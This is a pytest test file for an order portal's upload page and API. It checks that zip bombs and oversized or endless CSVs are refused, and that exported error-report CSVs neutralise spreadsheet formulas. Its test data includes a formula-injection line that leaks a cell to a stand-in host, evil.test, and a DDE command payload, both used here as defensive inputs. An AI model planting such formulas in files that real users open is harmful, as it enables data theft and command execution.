"""Hostile files through the portal's upload page and the API: 413/422 at once with the reason; and every CSV the
portal hands out (the import error reports) neutralises cells a spreadsheet would run as formulas."""
import csv
import io
import time

import pytest

from models.intake.tables import ImportBatch
from models.orders.tables import Order
from tests.models.intake.test_file_import import HEADER, line
from tests.models.intake.test_hostile_files import (
    HEADER_ROW,
    SHEET_END,
    SHEET_START,
    repeated,
    workbook,
)
from tests.portal.conftest import USERS
from tests.portal.test_api_intake import token_for

HOSTILE_REFS = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")', "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1+1", "-2+3"]


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """30 KB of workbook holding a 30 MB cell."""
    return workbook(repeated(b"A" * (1 << 20), 30, start=SHEET_START + HEADER_ROW + b'<row r="2"><c t="inlineStr">'
                             b"<is><t>", end=b"</t></is></c></row>" + SHEET_END))


def with_limits(app, **limits) -> None:
    settings = app.config["OMS_SETTINGS"]
    app.config["OMS_SETTINGS"] = type(settings)(**{**settings.__dict__, **limits})


def portal_upload(client, data: bytes, filename: str):
    return client.post("/imports", data={"file": (io.BytesIO(data), filename)}, content_type="multipart/form-data")


def api_upload(client, data: bytes, filename: str):
    return client.post("/api/v1/orders/import", headers=token_for(USERS["ops_agent"][0]),
                       data={"file": (io.BytesIO(data), filename)})


ROWS = ("\n".join([HEADER] + [line(f"PO-{n}") for n in range(4)])).encode()


@pytest.mark.parametrize(("upload", "limits", "file", "status", "message"), [
    ("bomb", {}, "orders.xlsx", 422, "times its packed size (the limit is 100): a zip bomb, not a workbook"),
    ("rows", {"import_max_rows": 3}, "orders.csv", 413, "the file has more than 3 rows; split it"),
    ("endless", {}, "orders.csv", 422, "line 2: a row of more than 1048576 characters"),
])
def test_portal_page_and_api_answer_hostile_files_at_once(client, app, auth, zip_bomb, upload, limits, file, status,
                                                          message):
    data = {"bomb": zip_bomb, "rows": ROWS, "endless": (HEADER + "\n" + "x" * (5 << 20)).encode()}[upload]
    with_limits(app, **limits)
    auth.login_as("ops_agent")
    started = time.perf_counter()
    page = portal_upload(client, data, file)
    answer = api_upload(client, data, file)
    assert time.perf_counter() - started < 2.0
    assert page.status_code == status and "was refused" in page.text and message in page.text
    assert answer.status_code == status and message in answer.json["error"]
    assert [batch.status for batch in ImportBatch.select()] == ["failed", "failed"]
    assert Order.select().count() == 0


def hostile_file() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADER.split(","))
    for ref in [*HOSTILE_REFS, "PO-PLAIN"]:
        cells = line("ref", sku="NOPE").split(",")  # an unknown SKU: every row is reported
        writer.writerow([ref, *cells[1:]])
    return buffer.getvalue().encode()


def report_refs(text: str) -> list[str]:
    return [row[1] for row in csv.reader(io.StringIO(text))][1:]


def test_error_reports_neutralise_formulas_on_the_portal_and_the_api(client, auth):
    auth.login_as("ops_agent")
    assert portal_upload(client, hostile_file(), "orders.csv").status_code == 302
    batch = ImportBatch.get()
    expected = ["'" + ref for ref in HOSTILE_REFS] + ["PO-PLAIN"]
    for url, headers in ((f"/imports/{batch.id}/errors.csv", {}),
                         (f"/api/v1/imports/{batch.id}/errors.csv", token_for(USERS["ops_agent"][0]))):
        report = client.get(url, headers=headers)
        assert report.status_code == 200 and report.mimetype == "text/csv"
        assert report_refs(report.text) == expected
        assert report.text.splitlines()[-1] == "6,PO-PLAIN,sku,unknown SKU 'NOPE'"
